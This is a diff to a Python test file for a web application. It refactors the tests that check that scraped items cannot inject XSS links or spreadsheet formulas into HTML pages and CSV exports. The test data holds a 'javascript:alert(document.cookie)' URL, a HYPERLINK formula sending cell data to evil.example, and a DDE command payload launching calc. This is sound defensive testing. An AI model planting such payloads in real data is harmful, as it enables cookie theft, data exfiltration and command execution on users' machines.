@@ -108,13 +108,18 @@ def test_database_down_is_503_from_every_route(url: str, tmp_path: Path, milai_e
     assert "database unavailable" in logged and "s3cret-pw" not in logged
 
 
-def test_non_http_urls_are_never_links(client: TestClient, ids: dict[str, int]) -> None:
-    item_id = next(iter(ids.values()))
+def _scrape_into(item_id: int, **fields: object) -> None:
+    """Give a seeded item what a hostile source could have published (and mark it on-topic, so every view lists it)."""
     with session_scope(configured_engine()) as s:
         item = s.get(Item, item_id)
         assert item is not None
-        item.url = "javascript:alert(document.cookie)"
-        item.relevant = True
+        for name, value in dict(fields, relevant=True).items():
+            setattr(item, name, value)
+
+
+def test_non_http_urls_are_never_links(client: TestClient, ids: dict[str, int]) -> None:
+    item_id = next(iter(ids.values()))
+    _scrape_into(item_id, url="javascript:alert(document.cookie)")
     page = client.get(f"/items/{item_id}", headers=HTML)
     assert page.status_code == 200
     assert 'href="javascript:' not in page.text.lower()
@@ -136,12 +141,8 @@ def test_csv_exports_never_hand_a_spreadsheet_a_formula(client: TestClient, ids:
     from api.presentation import csv_cell
 
     item_id = next(iter(ids.values()))
-    with session_scope(configured_engine()) as s:
-        item = s.get(Item, item_id)
-        assert item is not None
-        item.title = '=HYPERLINK("http://evil.example/?"&A1,"Autonomous weapons")'
-        item.summary = "+cmd|' /C calc'!A0"
-        item.relevant = True
+    _scrape_into(item_id, title='=HYPERLINK("http://evil.example/?"&A1,"Autonomous weapons")',
+                 summary="+cmd|' /C calc'!A0")
     for params in ({"all": "1"}, {"all": "1", "bom": "1"}):
         rows = list(csv.DictReader(io.StringIO(client.get("/api/items.csv", params=params).text.lstrip("\ufeff"))))
         [row] = [r for r in rows if r["id"] == str(item_id)]
